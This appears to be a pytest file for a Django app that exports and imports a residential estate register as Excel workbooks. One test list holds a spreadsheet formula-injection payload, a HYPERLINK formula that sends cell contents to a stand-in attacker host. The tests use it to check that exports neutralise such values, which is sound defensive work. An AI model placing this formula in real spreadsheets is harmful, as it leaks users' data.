import io
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from communities import services
from communities.excel import (
    BUILDINGS,
    ESTATES,
    HELP_SHEET,
    HOUSEHOLDS,
    LAYOUT,
    blank_template,
    export_register,
    import_register,
    xlsx_response,
)
from communities.models import Building, Estate, Household, Owner
from communities.tests.excel_samples import headers, read_sheet
from communities.tests.factories import (
    BuildingFactory,
    EstateFactory,
    HouseholdFactory,
    OwnerFactory,
)

pytestmark = pytest.mark.django_db

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+86 0756-5555555",
    "-2+3",
    "@SUM(1+1)",
    "'已带引号的文字",
]


def snapshot() -> dict:
    """Every stored field of the register, keyed by the rows' natural keys."""

    def fields(obj, skip=("id", "created_at", "updated_at")):
        return {
            field.attname: getattr(obj, field.attname)
            for field in obj._meta.concrete_fields
            if field.attname not in skip
        }

    return {
        "estates": {e.pk: fields(e, ("id",)) for e in Estate.objects.all()},
        "buildings": {b.pk: fields(b) for b in Building.objects.all()},
        "households": {
            h.pk: {**fields(h), "owners": sorted(o.pk for o in h.owners.all())}
            for h in Household.objects.prefetch_related("owners")
        },
        "owners": {o.pk: fields(o) for o in Owner.objects.all()},
    }


def seed_varied_register(community, other_community):
    tricky = EstateFactory(
        community=community,
        name=INJECTIONS[0],
        address=INJECTIONS[1],
        notes="第一行\n第二行：" + INJECTIONS[2],
        land_area=None,
        floor_area=None,
        tenant_share=Decimal("12.50"),
        maintenance_fund=Decimal("123456.78"),
        management_model=Estate.ManagementModel.SELF_MANAGED,
        has_owners_committee=True,
    )
    plain = EstateFactory(community=other_community, name="逸鸿花园")
    lift = BuildingFactory(estate=tricky, name="1栋", has_elevator=True, storeys=11)
    walkup = BuildingFactory(estate=plain, name=INJECTIONS[3], unit_count=3)
    landlord = OwnerFactory(name="陈大文", phone="13700000000")
    HouseholdFactory(
        building=lift,
        unit=1,
        number="0101",
        floor=-1,
        exclusive_area=Decimal("35.25"),
        area_basis=Household.AreaBasis.SURVEYED,
        occupancy=Household.Occupancy.RENTED,
        owners=[landlord, OwnerFactory(name=INJECTIONS[4])],
        contact_phone="0756-5555555",  # "+86 0756-5555555" as every write stores it
        elderly_living_alone=True,
    )
    HouseholdFactory(
        building=lift,
        unit=2,
        number="201",
        owners=[landlord],
        occupancy=Household.Occupancy.UNSOLD,
        area_basis=Household.AreaBasis.CONTRACT,
        has_disabled_member=True,
        has_children=True,
    )
    HouseholdFactory(
        building=walkup, unit=3, number="301", contact_phone="", resident_count=0
    )
    HouseholdFactory(building=walkup, unit=3, number="302", owners=[OwnerFactory()])


def test_export_then_import_changes_nothing(community, other_community, street_user):
    seed_varied_register(community, other_community)
    before = snapshot()

    data = export_register(Estate.objects.all())
    report = import_register(data, actor=street_user)

    assert report.errors == []
    assert {title: vars(counts) for title, counts in report.counts.items()} == {
        ESTATES: {"created": 0, "updated": 0, "unchanged": 2},
        BUILDINGS: {"created": 0, "updated": 0, "unchanged": 2},
        HOUSEHOLDS: {"created": 0, "updated": 0, "unchanged": 4},
    }
    assert snapshot() == before


def test_round_trip_into_an_empty_register_recreates_every_field(
    community, other_community, street_user
):
    seed_varied_register(community, other_community)
    data = export_register(Estate.objects.all())

    def natural():
        return (
            sorted(
                (e.community.name, e.name, e.address, e.notes, e.build_year)
                + (e.land_area, e.floor_area, e.tenant_share, e.maintenance_fund)
                + (e.management_model, e.has_owners_committee, e.elderly_80_count)
                for e in Estate.objects.select_related("community")
            ),
            sorted(
                (b.estate.name, b.name, b.storeys, b.unit_count, b.has_elevator)
                for b in Building.objects.select_related("estate")
            ),
            sorted(
                (h.building.name, h.unit, h.number, h.floor, h.exclusive_area)
                + (h.area_basis, h.occupancy, h.resident_count, h.contact_phone)
                + (h.elderly_living_alone, h.has_disabled_member, h.has_children)
                + (tuple(sorted(o.name for o in h.owners.all())),)
                for h in Household.objects.select_related("building")
            ),
        )

    before = natural()
    Household.objects.all().delete()
    Building.objects.all().delete()
    Estate.objects.all().delete()

    report = import_register(data, actor=street_user)

    assert report.errors == []
    assert report.counts[HOUSEHOLDS].created == 4
    assert natural() == before


def test_formula_like_text_is_neutralised(community, other_community):
    seed_varied_register(community, other_community)

    data = export_register(Estate.objects.all())

    workbook = load_workbook(io.BytesIO(data))
    cells = {
        title: {
            header: [cell for cell in column[1:]]
            for header, column in zip(
                headers(title), workbook[title].iter_cols(), strict=True
            )
        }
        for title in (ESTATES, BUILDINGS, HOUSEHOLDS)
    }
    names = {cell.value: cell for cell in cells[ESTATES]["小区名称"]}
    assert names["'" + INJECTIONS[0]].data_type == "s"
    assert "'" + INJECTIONS[1] in [c.value for c in cells[ESTATES]["地址"]]
    notes = [c.value for c in cells[ESTATES]["备注"]]
    assert "第一行\n第二行：" + INJECTIONS[2] in notes  # only a leading = is a risk
    assert "'" + INJECTIONS[3] in [c.value for c in cells[BUILDINGS]["楼栋名称"]]
    owners = [c.value for c in cells[HOUSEHOLDS]["业主"] if c.value]
    assert any(
        sorted(value.split("、")) == sorted(["陈大文", "''已带引号的文字"])
        for value in owners
    )
    formulas = [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []


def test_export_uses_the_import_layout(community):
    household = HouseholdFactory(
        building=BuildingFactory(estate=EstateFactory(community=community)),
        owners=[OwnerFactory(name="张三"), OwnerFactory(name="李四")],
    )

    data = export_register(Estate.objects.all())

    for layout in LAYOUT:
        assert read_sheet(data, layout.title)[0] == tuple(layout.headers)
    row = dict(zip(headers(HOUSEHOLDS), read_sheet(data, HOUSEHOLDS)[1], strict=True))
    assert row["所属社区"] == "鹤洲社区"
    assert row["楼栋名称"] == household.building.name
    assert sorted(row["业主"].split("、")) == ["张三", "李四"]
    assert row["面积依据"] == "不动产登记面积"
    assert row["居住情况"] == "业主自住"
    assert row["独居老人"] == "否"
    assert row["联系电话"] == household.contact_phone
    estate_row = dict(zip(headers(ESTATES), read_sheet(data, ESTATES)[1], strict=True))
    assert estate_row["物业管理情况"] == "无物业"
    assert estate_row["业主委员会"] == "否"
    assert estate_row["占地面积（㎡）"] == 15674


def test_phone_numbers_are_exported_as_text_cells_without_an_apostrophe(
    community, street_user
):
    # given: numbers typed the way clerks type them, stored through the service
    building = BuildingFactory(estate=EstateFactory(community=community))
    for number, typed in [("101", "+86 139-2345-6789"), ("102", "(0756)1234567")]:
        services.household_create(
            building=building,
            number=number,
            exclusive_area=Decimal("80"),
            contact_phone=typed,
            actor=street_user,
        )

    # when
    data = export_register(Estate.objects.all())

    # then: the stored form, in a text cell ("@"), no apostrophe to see
    sheet = load_workbook(io.BytesIO(data))[HOUSEHOLDS]
    column = headers(HOUSEHOLDS).index("联系电话")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == ["13923456789", "0756-1234567"]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.number_format for cell in cells} == {"@"}
    # and the stored numbers come back unchanged
    report = import_register(data, actor=street_user)
    assert report.errors == []
    assert report.counts[HOUSEHOLDS].unchanged == 2


def test_export_only_contains_the_chosen_estates(community, other_community):
    mine = EstateFactory(community=community, name="藤翠苑7号小区")
    BuildingFactory(estate=mine)
    other = EstateFactory(community=other_community, name="逸鸿花园")
    HouseholdFactory(building=BuildingFactory(estate=other))

    data = export_register(Estate.objects.filter(community=community))

    assert [row[1] for row in read_sheet(data, ESTATES)[1:]] == ["藤翠苑7号小区"]
    assert len(read_sheet(data, BUILDINGS)) == 2
    assert len(read_sheet(data, HOUSEHOLDS)) == 1


def seed_estates(community, count: int) -> None:
    for index in range(count):
        building = BuildingFactory(estate=EstateFactory(community=community))
        HouseholdFactory(building=building, owners=[OwnerFactory()])
        HouseholdFactory(building=building, number=f"B{index}", owners=[])


@pytest.mark.parametrize("size", [5, pytest.param(200, marks=pytest.mark.slow)])
def test_export_queries_do_not_grow_with_rows(
    size, community, django_assert_max_num_queries
):
    seed_estates(community, size)

    with django_assert_max_num_queries(4):
        data = export_register(Estate.objects.all())

    assert len(read_sheet(data, HOUSEHOLDS)) == 2 * size + 1


def test_blank_template_has_the_headers_and_imports_as_nothing(street_user):
    data = blank_template()

    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == [ESTATES, BUILDINGS, HOUSEHOLDS, HELP_SHEET]
    for layout in LAYOUT:
        rows = list(workbook[layout.title].iter_rows(values_only=True))
        assert rows == [tuple(layout.headers)]
    dropdowns = {
        str(validation.sqref): validation.formula1
        for validation in workbook[ESTATES].data_validations.dataValidation
    }
    assert dropdowns["Q2:Q2000"] == '"是,否"'  # 业主委员会
    assert dropdowns["P2:P2000"] == (
        '"物业服务企业,业主自管,社区托管,国企兜底,无物业"'  # 物业管理情况
    )
    help_rows = {
        row[:2]: row[2:] for row in workbook[HELP_SHEET].iter_rows(values_only=True)
    }
    assert help_rows[(ESTATES, "建成年代")][0] == "是"
    assert help_rows[(ESTATES, "地址")][0] is None
    assert "可填：物业服务企业、业主自管" in help_rows[(ESTATES, "物业管理情况")][1]

    report = import_register(data, actor=street_user)

    assert report.errors == []
    assert all(counts.total == 0 for counts in report.counts.values())


def test_xlsx_response_names_the_file_in_chinese():
    response = xlsx_response(b"PK-data", "小区登记.xlsx")

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == (
        'attachment; filename="register.xlsx"; '
        "filename*=UTF-8''%E5%B0%8F%E5%8C%BA%E7%99%BB%E8%AE%B0.xlsx"
    )
    assert response.content == b"PK-data"


def test_export_command_writes_one_community(tmp_path, community, other_community):
    EstateFactory(community=community, name="藤翠苑7号小区")
    EstateFactory(community=other_community, name="逸鸿花园")
    output = tmp_path / "鹤洲.xlsx"

    call_command("export_register", "--output", str(output), "--community", "鹤洲")

    rows = read_sheet(output.read_bytes(), ESTATES)
    assert [row[1] for row in rows[1:]] == ["藤翠苑7号小区"]


def test_export_command_refuses_an_unknown_community(tmp_path):
    with pytest.raises(CommandError, match="社区「火星」不存在"):
        call_command(
            "export_register",
            "--output",
            str(tmp_path / "x.xlsx"),
            "--community",
            "火星",
        )
